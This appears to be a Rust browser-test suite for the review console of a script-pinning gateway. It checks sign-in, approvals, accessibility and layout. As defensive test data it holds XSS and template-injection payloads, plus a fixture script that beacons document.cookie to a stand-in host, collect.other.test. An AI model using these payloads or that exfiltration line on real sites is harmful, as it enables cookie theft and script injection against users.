//! The console in a real browser.

use pinfold_integration_tests::fixtures::axe;
use pinfold_integration_tests::vouching::real_provider;
use pinfold_integration_tests::{
    Answer, Driven, Gateway, Identity, Looks, Rule, client, driven, driven_trusting, eventually, gateway,
    sha256, vendor,
};
use serde_json::Value;

use crate::admission::PASSWORD;
use crate::console::with_reviewers;
use crate::console_pages::SHOWN;
use crate::learned_pins::taught;
use crate::trial::{ten, with_ten};
use crate::{REVIEWED, TAMPERED, pinning, vendor_of, verified};

async fn signed_in(gateway: &Gateway, looks: Looks) -> (Driven, String) {
    let origin = format!("http://{}", gateway.console().unwrap());
    let browser = driven(looks).await;
    browser.open(&format!("{origin}/")).await;
    browser.types("name", "ada").await;
    browser.types("password", PASSWORD).await;
    browser.clicks("main button").await;
    (browser, origin)
}

#[tokio::test]
async fn chromium_signs_in_reviews_and_approves_and_the_script_passes_a_moment_later() {
    let vendor = vendor_of(TAMPERED).await;
    let gateway = with_reviewers(pinning(&vendor)).listen().await;
    assert_eq!(client(&gateway).get(vendor.url("/app.js")).await.status(), 403);

    let (browser, _) = signed_in(&gateway, Looks::default()).await;
    assert!(browser.text().await.contains("Waits for review"), "{}", browser.text().await);
    browser.clicks("a[href='/quarantine']").await;
    browser.clicks("ol.queue a").await;
    assert!(browser.text().await.contains(&vendor.url("/app.js")));
    browser.types("approve-reason", "SEC-1: read it all").await;
    browser.types("password", PASSWORD).await;
    browser.clicks("button.go").await;

    assert!(browser.text().await.contains("Decided."), "{}", browser.text().await);
    verified(&client(&gateway).get(vendor.url("/app.js")).await, TAMPERED);
    browser.clicks("form.who button").await;
    assert!(browser.text().await.contains("Sign in"));
    assert_eq!(browser.complaints().await, Vec::<String>::new());
    browser.quit().await;
}

/// Waits until the page that is open has what this CSS selector names, whatever pages come and go before it.
async fn has(browser: &Driven, selector: &str) {
    let is_there = format!("return document.querySelector({selector:?}) !== null");
    let there = async {
        while !browser
            .browser
            .execute(&*is_there, Vec::new())
            .await
            .is_ok_and(|is| *is.json() == Value::Bool(true))
        {}
    };
    eventually(selector, there).await;
}

/// Signs in at the pages of the real provider.
async fn at_the_provider(browser: &Driven, name: &str) {
    has(browser, "input[name=login]").await;
    let fill = format!(
        "(() => {{ document.querySelector('input[name=login]').value = '{name}'; document.querySelector('input[name=password]').value = 'any'; }})()"
    );
    browser.value(&fill).await;
    submits(browser).await;
}

/// By the form itself: its page loads a font from elsewhere, and moves when that does not come.
async fn submits(browser: &Driven) {
    browser.value("document.querySelector('button[type=submit]').click()").await;
}

/// Lets it tell the console who they are.
async fn consents(browser: &Driven) {
    has(browser, "input[name=prompt][value=consent]").await;
    submits(browser).await;
}

#[tokio::test]
async fn chromium_signs_in_over_tls_by_a_real_provider_proves_again_and_approves() {
    let vendor = vendor_of(TAMPERED).await;
    let provider = real_provider().await;
    let gateway = crate::vouching::with(pinning(&vendor), &provider.issuer);
    let gateway = gateway.set_in("console", "tls", "local-ca").listen().await;
    let reply = client(&gateway).get(vendor.url("/app.js")).await;
    let item = format!("/quarantine/{}", reply.verdict().incident().unwrap());
    let origin = format!("https://{}", gateway.console().unwrap());
    let _provider = provider.comes_back_to(&format!("{origin}/sign-in/callback")).await;
    let browser = driven_trusting(Looks::default(), Some(&gateway.ca())).await;

    browser.open(&format!("{origin}/sign-in")).await;
    browser.clicks("#provider").await;
    at_the_provider(&browser, "ada").await;
    consents(&browser).await;
    has(&browser, "header.top a[href='/quarantine']").await;
    assert!(browser.text().await.contains("Waits for review"), "{}", browser.text().await);
    browser.open(&format!("{origin}{item}")).await;
    browser.clicks("#prove").await;
    at_the_provider(&browser, "ada").await;
    let proved =
        async { while browser.value("document.querySelector('button.go') !== null").await != true {} };
    eventually("the item", proved).await;
    browser.types("approve-reason", "SEC-1: read it all").await;
    browser.clicks("button.go").await;

    assert!(browser.text().await.contains("Decided."), "{}", browser.text().await);
    verified(&client(&gateway).get(vendor.url("/app.js")).await, TAMPERED);
    browser.clicks("form.who button").await;

    // The provider still knows them; another name has no role.
    browser.quit().await;
    let browser = driven_trusting(Looks::default(), Some(&gateway.ca())).await;
    browser.open(&format!("{origin}/sign-in")).await;
    browser.clicks("#provider").await;
    at_the_provider(&browser, "guest").await;
    consents(&browser).await;
    has(&browser, "a[href='/']").await;
    assert!(browser.text().await.contains("nothing gives you a role here"), "{}", browser.text().await);
    browser.quit().await;
}

/// Markup, schemes, templates and characters that deceive, as an attacker has them in all that a page shows.
const PLANTED: [&str; 5] = [
    "\"><script>window.planted=1</script>",
    "'><img src=x onerror=window.planted=1>",
    "javascript:window.planted=1",
    "{{7*7}}{% raw %}${7*7}<%= 7*7 %>",
    "</textarea></title></style><svg onload=window.planted=1>",
];

#[tokio::test]
async fn what_an_attacker_plants_in_any_shown_field_runs_nothing_in_chromium() {
    let vendor =
        vendor().identity(Identity::ByAnIssuerOfMarkup).script("/verified.js", REVIEWED).listen().await;
    let rule = Rule::default().set("unpinned", "quarantine").set("recheck", "always");
    let gateway = gateway().rule(&vendor, rule).pin(vendor.url("/verified.js"), sha256(REVIEWED));
    let gateway = with_reviewers(gateway).listen().await;
    // Code that does something with what is planted, so that it stands among the facts, the hosts and the difference.
    let code = |at: usize| {
        let all = PLANTED.map(|planted| serde_json::to_string(planted).unwrap()).join(", ");
        let planted = serde_json::to_string(PLANTED[at]).unwrap();
        format!(
            "{at}; eval({planted}); fetch('https://host{at}.test/' + {planted}); document.cookie = [{all}];\nx[{planted}] = function () {{ return {planted}; }};\n"
        )
    };
    verified(&client(&gateway).get(vendor.url("/verified.js")).await, REVIEWED);
    let media_type = "text/javascript; a=\"><img src=x onerror=window.planted=1>\"";
    vendor.serve("/verified.js", Answer::typed(media_type, format!("{REVIEWED}{}", code(0))));
    assert_eq!(client(&gateway).get(vendor.url("/verified.js")).await.status(), 403);
    for (at, planted) in PLANTED.iter().enumerate() {
        let path =
            format!("/{at}/{}.js", planted.replace(' ', "%20").replace('%', "%25").replace("%2520", "%20"));
        let path = path.replace(['"', '<', '>', '{', '}', '`'], "_");
        // The first is no script.
        let body = if at == 0 { format!("{planted}{at}") } else { code(at) };
        vendor.serve(&path, Answer::typed(media_type, body));
        let client = client(&gateway).header("referer", &format!("https://shop.test/{planted}"));
        let client = client.header("user-agent", planted);
        assert_eq!(client.get(vendor.url(&path)).await.status(), 403);
    }

    let (browser, origin) = signed_in(&gateway, Looks::default()).await;
    browser
        .open(&format!(
            "{origin}/quarantine?q={}&vendor=%22%3E%3Cscript%3E",
            "%22%3E%3Cscript%3Ewindow.planted=1%3C/script%3E"
        ))
        .await;
    assert!(browser.text().await.contains("Nothing here"));
    browser.open(&format!("{origin}/quarantine")).await;
    let links = browser.value("Array.from(document.querySelectorAll('ol.queue a')).map(a => a.href)").await;
    let links = links.as_array().unwrap().clone();
    assert_eq!(links.len(), PLANTED.len() + 1);
    for link in links {
        browser.open(link.as_str().unwrap()).await;
        browser.types("reject-reason", PLANTED[4]).await;
        assert_eq!(browser.value("window.planted === undefined").await, true);
        assert_eq!(browser.value("document.scripts.length").await, 1);
        // What was typed comes back in the form when nothing was decided, and what was decided in the history.
        browser.clicks("button.stop").await;
        assert_eq!(browser.value("window.planted === undefined").await, true);
        assert!(browser.text().await.contains(PLANTED[4]), "{}", browser.text().await);
        // What is fetched anew is put in by our own script.
        assert!(browser.text().await.contains("CA\"><script>window.planted=1</script>"));
    }
    // A violation of the policy is one of the complaints, and an alert would have held up all of this.
    assert_eq!(browser.complaints().await, Vec::<String>::new());
    browser.quit().await;
}

#[tokio::test]
async fn no_page_is_wider_than_a_small_screen_in_chromium() {
    let updates = &ten()[..4];
    let (vendor, gateway) = with_ten(updates).await;
    for update in updates {
        let client = client(&gateway).header("referer", &format!("https://shop.test/{}", "a".repeat(300)));
        client.get(vendor.url(update.path)).await;
    }
    for looks in
        [Looks { width: 360, height: 800, dark: false }, Looks { width: 360, height: 800, dark: true }]
    {
        let (browser, origin) = signed_in(&gateway, looks).await;
        browser.open(&format!("{origin}/quarantine")).await;
        let items =
            browser.value("Array.from(document.querySelectorAll('ol.queue a')).map(a => a.href)").await;
        let items = items.as_array().unwrap().iter().map(|item| item.as_str().unwrap().to_owned());
        let others = ["/", "/quarantine"].into_iter().chain(SHOWN).map(|page| format!("{origin}{page}"));
        for page in others.chain(items) {
            browser.open(&page).await;
            browser.value("document.querySelectorAll('details').forEach(fold => fold.open = true)").await;
            let wide = browser.value("document.documentElement.scrollWidth").await;
            assert!(wide.as_u64().unwrap() <= 360, "{page}: {wide}");
            let is_dark = browser.value("matchMedia('(prefers-color-scheme: dark)').matches").await;
            assert_eq!(is_dark, looks.dark);
        }
        browser.quit().await;
    }
}

/// The link of the first item of the queue.
async fn first_item(browser: &Driven, origin: &str) -> String {
    browser.open(&format!("{origin}/quarantine")).await;
    browser.value("document.querySelector('ol.queue a').href").await.as_str().unwrap().to_owned()
}

#[tokio::test]
async fn no_page_breaks_a_rule_of_wcag_2_2_aa_in_chromium_in_either_theme() {
    let (_vendor, gateway) = with_ten(&ten()[..2]).await;
    let axe = axe();
    for dark in [false, true] {
        let origin = format!("http://{}", gateway.console().unwrap());
        let browser = driven(Looks { dark, ..Looks::default() }).await;
        browser.open(&format!("{origin}/sign-in")).await;
        broken(&browser, &axe, "sign-in").await;
        browser.types("name", "ada").await;
        browser.types("password", PASSWORD).await;
        browser.clicks("main button").await;
        broken(&browser, &axe, "overview").await;
        let item = first_item(&browser, &origin).await;
        broken(&browser, &axe, "queue").await;
        browser.open(&item).await;
        broken(&browser, &axe, "item").await;
        browser.value("document.querySelectorAll('details').forEach(fold => fold.open = true)").await;
        broken(&browser, &axe, "item, unfolded").await;
        browser.types("reject-reason", "SEC-1").await;
        browser.clicks("button.stop").await;
        broken(&browser, &axe, "item, decided").await;
        let folded = "document.querySelector('.decide details:not([open]) #approve-reason') !== null";
        assert_eq!(browser.value(folded).await, true);
        browser.value("document.querySelector('.shows-keys').click()").await;
        broken(&browser, &axe, "keys").await;
        browser.open(&format!("{origin}/quarantine/nothing")).await;
        broken(&browser, &axe, "none").await;
        for page in SHOWN {
            browser.open(&format!("{origin}{page}")).await;
            broken(&browser, &axe, page).await;
        }
        browser.quit().await;
    }
}

#[tokio::test]
async fn the_page_of_a_learned_pin_breaks_no_rule_of_wcag_2_2_aa_in_chromium_in_either_theme() {
    let vendor = vendor_of("navigator.sendBeacon('https://collect.other.test/', document.cookie);").await;
    let rule = Rule::default().set("unpinned", "learn");
    let gateway = taught(with_reviewers(gateway().rule(&vendor, rule)), &vendor.url("/app.js")).await;
    let axe = axe();
    for dark in [false, true] {
        let (browser, origin) = signed_in(&gateway, Looks { dark, ..Looks::default() }).await;
        browser.open(&format!("{origin}/pins?from=learned")).await;
        broken(&browser, &axe, "learned pins").await;
        browser.clicks("ol.queue h2 a").await;
        broken(&browser, &axe, "learned").await;
        browser.types("approve-reason", "SEC-1").await;
        browser.types("password", "not hers").await;
        browser.clicks("button.go").await;
        broken(&browser, &axe, "learned, refused").await;
        browser.open(&format!("{origin}/pins/learned/1/nothing")).await;
        broken(&browser, &axe, "nothing").await;
        browser.quit().await;
    }
}

/// Fails where the page that is open breaks a rule.
async fn broken(browser: &Driven, axe: &str, page: &str) {
    browser.browser.execute(axe, Vec::new()).await.unwrap();
    let run = "const done = arguments[arguments.length - 1];
        const tags = ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa'];
        axe.run(document, { runOnly: { type: 'tag', values: tags } }).then(
            (found) => done([found.passes.length, found.violations.map((rule) => [rule.id, rule.nodes.map((node) => node.html)])]),
            (error) => done([0, String(error)]),
        );";
    let found = browser.browser.execute_async(run, Vec::new()).await.unwrap();
    let found = found.json();
    assert!(found[0].as_u64().unwrap() > 5, "{page}: {found}");
    assert_eq!(found[1], Value::Array(Vec::new()), "{page}");
}

/// Presses a key, wherever the focus is.
async fn presses(browser: &Driven, key: &str) {
    browser.browser.active_element().await.unwrap().send_keys(key).await.unwrap();
}

#[tokio::test]
async fn keys_lead_through_the_queue_and_type_where_a_field_has_the_focus_in_chromium() {
    let (vendor, gateway) = with_ten(&ten()[..3]).await;
    let (browser, origin) = signed_in(&gateway, Looks::default()).await;
    browser.open(&format!("{origin}/quarantine")).await;
    let focused = "document.activeElement.textContent";
    presses(&browser, "j").await;
    presses(&browser, "j").await;
    let second = browser.value(focused).await;
    presses(&browser, "k").await;
    assert_ne!(browser.value(focused).await, second);
    assert!(second.as_str().unwrap().starts_with(&vendor.url("/")), "{second}");
    browser.value("window.isBefore = true").await;
    presses(&browser, "o").await;
    let arrived = async {
        while browser.value("!window.isBefore && document.readyState === 'complete'").await != true {}
    };
    eventually("the item", arrived).await;

    presses(&browser, "r").await;
    assert_eq!(browser.value("document.activeElement.id").await, "reject-reason");
    presses(&browser, "a jar of keys?").await;
    assert_eq!(browser.value("document.activeElement.value").await, "a jar of keys?");
    browser.value("document.activeElement.blur()").await;
    presses(&browser, "f").await;
    assert_eq!(browser.value("document.querySelectorAll('.diff details:not([open])').length").await, 0);

    // Whoever speaks to their machine turns them off.
    presses(&browser, "?").await;
    assert_eq!(browser.value("document.querySelector('dialog.keys').open").await, true);
    browser.value("document.querySelector('dialog.keys input').click()").await;
    browser.value("document.querySelector('dialog.keys').close()").await;
    // The browser takes the focus from what it no longer shows at its next frame, and no key can be sent there before.
    let left = async { while browser.value("document.activeElement === document.body").await != true {} };
    eventually("the page's focus", left).await;
    presses(&browser, "a").await;
    assert_ne!(browser.value("document.activeElement.id").await, "approve-reason");
    assert_eq!(browser.complaints().await, Vec::<String>::new());
    browser.quit().await;
}

#[tokio::test]
async fn a_queue_that_is_left_open_shows_what_comes_in_chromium() {
    let vendor = vendor_of(TAMPERED).await;
    let gateway = with_reviewers(pinning(&vendor)).listen().await;
    let (browser, origin) = signed_in(&gateway, Looks::default()).await;
    browser.open(&format!("{origin}/quarantine")).await;
    assert!(browser.text().await.contains("0 items wait"));
    client(&gateway).get(vendor.url("/app.js")).await;

    // The page's clock goes on by a minute.
    browser.value("(() => { const now = Date.now; Date.now = () => now() + 60000; })()").await;

    let shown = async { while !browser.text().await.contains("1 item waits") {} };
    eventually("the item", shown).await;
    assert!(browser.text().await.contains(&vendor.url("/app.js")));
    assert_eq!(browser.complaints().await, Vec::<String>::new());
    browser.quit().await;
}

#[tokio::test]
async fn a_queue_that_is_looked_at_does_not_jump_and_says_that_the_order_is_another_in_chromium() {
    let updates = &ten()[..3];
    let (vendor, gateway) = with_ten(&updates[1..]).await;
    let (browser, origin) = signed_in(&gateway, Looks::default()).await;
    browser.open(&format!("{origin}/quarantine")).await;
    let rows = "Array.from(document.querySelectorAll('ol.queue h2 a')).map(a => a.textContent).join(' ')";
    let read = async { while browser.text().await.contains("is being read") {} };
    eventually("what they do", read).await;
    let stood = browser.value(rows).await.as_str().unwrap().to_owned();
    // What comes now has more weight than either.
    let url = vendor.url(updates[1].path);
    vendor.script(updates[1].path, updates[0].script.clone());
    client(&gateway).get(&url).await;

    browser.value("(() => { const now = Date.now; Date.now = () => now() + 60000; })()").await;

    let there = async { while !browser.text().await.contains("in another order") {} };
    eventually("the note", there).await;
    assert_eq!(browser.value(rows).await, format!("{stood} {url}"));
    browser.clicks("#order a").await;
    let sorted = async { while browser.value(rows).await != format!("{url} {stood}") {} };
    eventually("the order", sorted).await;
    assert_eq!(browser.complaints().await, Vec::<String>::new());
    browser.quit().await;
}

#[tokio::test]
async fn the_menu_is_one_row_on_a_small_screen_and_every_page_in_it_can_be_reached_in_chromium() {
    let gateway = with_reviewers(pinning(&vendor_of(TAMPERED).await)).listen().await;
    let (browser, _) = signed_in(&gateway, Looks { width: 360, height: 800, dark: false }).await;
    let links = "Array.from(document.querySelectorAll('header.top nav a'))";
    let rows = browser.value(&format!("new Set({links}.map((link) => link.offsetTop)).size")).await;
    let lowest = browser.value(&format!("Math.min(...{links}.map((link) => link.offsetHeight))")).await;
    assert_eq!(rows, 1);
    assert!(lowest.as_u64().unwrap() >= 24, "{lowest}");
    // Whoever goes from link to link by the keyboard sees each, with its mark.
    let is_seen = "(() => { const links = Array.from(document.querySelectorAll('header.top nav a')); return links.every((link) => { \
                   link.focus({ focusVisible: true }); const at = link.getBoundingClientRect(); \
                   return at.left >= 0 && at.right <= innerWidth && getComputedStyle(link).outlineStyle !== 'none'; }); })()";
    assert_eq!(browser.value(is_seen).await, true);
    browser.quit().await;
}

#[tokio::test]
async fn who_reads_the_difference_decides_from_there_and_goes_back_to_where_they_read_in_chromium() {
    let (_vendor, gateway) = with_ten(&ten()[..1]).await;
    let (browser, origin) = signed_in(&gateway, Looks::default()).await;
    let item = first_item(&browser, &origin).await;
    browser.open(&item).await;
    let shown =
        async { while browser.value("document.querySelector('.deciding') !== null").await != true {} };
    eventually("the bar", shown).await;
    browser.value("document.querySelector('#difference').scrollIntoView()").await;
    let read = browser.value("scrollY").await;
    let in_view = "(() => { const at = document.querySelector('.deciding').getBoundingClientRect(); return at.top >= 0 && \
                   at.bottom <= innerHeight; })()";
    assert_eq!(browser.value(in_view).await, true);
    // Above what is still to be read, and nowhere in front of it.
    let is_covered = "(() => { const bar = document.querySelector('.over').getBoundingClientRect(); \
                      const rows = Array.from(document.querySelectorAll('.diff code')).filter((row) => row.checkVisibility()).map((row) => row.getBoundingClientRect()); \
                      const read = rows.filter((at) => at.width > 0 && at.top >= bar.bottom && at.bottom <= innerHeight); \
                      return [read.length > 4, read.some((at) => !document.elementFromPoint(at.right - 8, (at.top + at.bottom) / 2).closest('.diff'))]; \
                      })()";
    assert_eq!(browser.value(is_covered).await, serde_json::json!([true, false]));

    for (link, field) in [("approve", "approve-reason"), ("reject", "reject-reason")] {
        browser.value(&format!("document.querySelector('.deciding a[href=\"#{link}\"]').click()")).await;
        assert_eq!(browser.value("document.activeElement.id").await, field);
        browser.value("document.querySelector('.decide .back a').click()").await;
        assert_eq!(browser.value("scrollY").await, read);
        assert_eq!(browser.value("document.activeElement.id").await, "difference");
    }
    assert_eq!(browser.complaints().await, Vec::<String>::new());
    browser.quit().await;
}

#[tokio::test]
async fn an_item_that_takes_long_to_analyse_has_a_page_at_once_and_shows_by_itself_what_was_found_in_chromium()
 {
    let hosts: String = (0..250_000).map(|at| format!("//h{at}.test ")).collect();
    let vendor = vendor().script("/app.js", format!("x = '{hosts}';")).listen().await;
    let gateway = with_reviewers(pinning(&vendor)).listen().await;
    assert_eq!(client(&gateway).get(vendor.url("/app.js")).await.status(), 403);
    let (browser, origin) = signed_in(&gateway, Looks::default()).await;

    let item = first_item(&browser, &origin).await;
    browser.open(&item).await;

    assert!(browser.text().await.contains("Decide"));
    browser.value("window.isTheSame = true").await;
    let found = async { while !browser.text().await.contains("this is all that it does") {} };
    eventually("what was found", found).await;
    assert_eq!(browser.value("window.isTheSame").await, true);
    assert!(browser.text().await.contains("h0.test"));
    assert_eq!(browser.complaints().await, Vec::<String>::new());
    browser.quit().await;
}
